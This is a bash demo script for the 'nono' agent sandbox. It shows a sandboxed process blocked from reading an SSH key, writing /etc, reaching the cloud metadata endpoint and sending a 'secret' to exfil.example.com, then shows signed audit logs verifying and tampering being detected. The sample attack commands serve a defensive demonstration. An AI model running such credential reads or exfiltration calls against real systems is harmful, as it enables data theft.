#!/usr/bin/env bash
# make demo: the main job, end to end, in a throwaway HOME.
#   1. an agent runs sandboxed: its project is writable, an SSH key next
#      to it is not, and neither is anything outside its grants; its
#      network goes through nono's proxy (LLM APIs only, never cloud
#      metadata)
#   2. the session was recorded and signed; an auditor verifies it offline
#      with only the public key
#   3. one byte of the log is changed: verification fails
set -euo pipefail
cd "$(dirname "$0")/.."
ROOT=$PWD
N=$ROOT/build/nono
# not under /tmp: a HOME below /tmp stops nono granting write access to /tmp
W=$(mktemp -d /var/tmp/nono-demo.XXXXXX)
trap 'rm -rf "$W"' EXIT
export HOME=$W/home XDG_STATE_HOME=$W/state XDG_CONFIG_HOME=$W/config
mkdir -p "$HOME/.ssh" "$W/project" "$W/auditor"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (demo)" >"$HOME/.ssh/id_ed25519"
echo "print('hello')" >"$W/project/main.py"
cd "$W/project"
say() { printf '\n\033[1m## %s\033[0m\n' "$*"; }

say "0. A signing key for audit attestations (a file key here)"
"$N" trust keygen --keyref "file://$W/signing.pem"
"$N" trust export-key --keyref "file://$W/signing.pem" --pem >"$W/auditor/nono.pub"

say "1. Run an 'agent' in the sandbox: project writable, SSH key denied, network filtered"
"$N" run --allow "$W/project" --network-profile minimal \
	--audit-sign-key "file://$W/signing.pem" -- \
	sh -c 'echo "# edited" >> main.py && echo "edited main.py";
	       cat "$HOME/.ssh/id_ed25519" || echo "(the kernel said no)";
	       touch /etc/owned 2>&1 || true;
	       curl -sS -m 5 -x "$HTTP_PROXY" http://169.254.169.254/latest/meta-data/;
	       curl -sS -m 5 -x "$HTTP_PROXY" http://exfil.example.com/?k=secret;
	       echo "AWS_SECRET_ACCESS_KEY in the sandbox: ${AWS_SECRET_ACCESS_KEY:-<unset>}"' \
	|| true

say "2. Why was it denied? (nono why, as an agent would ask)"
"$N" why --path "$HOME/.ssh/id_ed25519" --op read --allow "$W/project" || true

say "3. The session was recorded, network decisions included"
"$N" audit list
id=$("$N" audit list --json | python3 -c 'import json,sys; print(json.load(sys.stdin)[0]["session_id"])')
"$N" audit show "$id" | sed -n '/Network Events/,$p'

say "4. The auditor verifies it offline, with only the public key"
"$N" audit verify "$id" --public-key-file "$W/auditor/nono.pub"

say "5. Tamper with one byte of the event log"
log=$XDG_STATE_HOME/nono/audit/$id/audit-events.ndjson
cp "$log" "$W/orig"
sed -i '1s/edited main/edXted main/' "$log"
rc=0
"$N" audit verify "$id" --public-key-file "$W/auditor/nono.pub" || rc=$?
if [ "$rc" = 0 ]; then
	echo "demo: tampering was NOT detected" >&2
	exit 1
fi
echo "(exit status $rc: tampering detected)"

say "6. Restore it: verified again"
cp "$W/orig" "$log"
"$N" audit verify "$id" --public-key-file "$W/auditor/nono.pub" >/dev/null && echo "VERIFIED"
